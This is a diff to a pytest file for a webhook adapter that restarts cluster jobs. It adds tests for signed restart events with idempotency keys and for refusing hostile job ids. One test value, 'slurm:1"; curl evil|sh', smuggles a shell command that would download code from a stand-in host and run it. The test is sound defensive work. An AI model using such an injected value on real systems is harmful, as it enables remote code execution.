@@ -149,3 +149,26 @@ def test_missing_secret_file_is_adapter_error_naming_the_key(tmp_path):
 def test_missing_url_is_adapter_error_naming_the_key():
     with pytest.raises(AdapterError, match="adapter.webhook.url"):
         open_adapter(config_from_dict({"adapter": {"name": "webhook"}}))
+
+
+def test_restart_job_posts_signed_event_with_the_job_and_a_per_job_key(receiver, tmp_path):
+    adapter, _ = adapter_for(receiver.url, tmp_path)
+    reason = "node-agent: ERROR training-hang job slurm:1234 rank:3"
+    detail = adapter.restart_job("gpu-01", "slurm:1234", reason)
+    assert detail.startswith("webhook: restart-job slurm:1234 on gpu-01 accepted")
+    adapter.restart_job("gpu-01", "slurm:1234", reason)
+    adapter.restart_job("gpu-01", "slurm:1235", reason)  # another job, same words
+    first, again, other = receiver.received
+    assert first["valid"]
+    body = first["body"]
+    assert (body["action"], body["node"], body["job"], body["reason"]) == (
+        "restart-job", "gpu-01", "slurm:1234", reason)
+    assert first["body"]["idempotency_key"] == again["body"]["idempotency_key"]
+    assert other["body"]["idempotency_key"] != first["body"]["idempotency_key"]
+
+
+def test_restart_job_with_a_hostile_job_id_posts_nothing(receiver, tmp_path):
+    adapter, _ = adapter_for(receiver.url, tmp_path)
+    with pytest.raises(AdapterError, match="refusing job id"):
+        adapter.restart_job("gpu-01", 'slurm:1"; curl evil|sh', "ERROR training-hang")
+    assert receiver.received == []
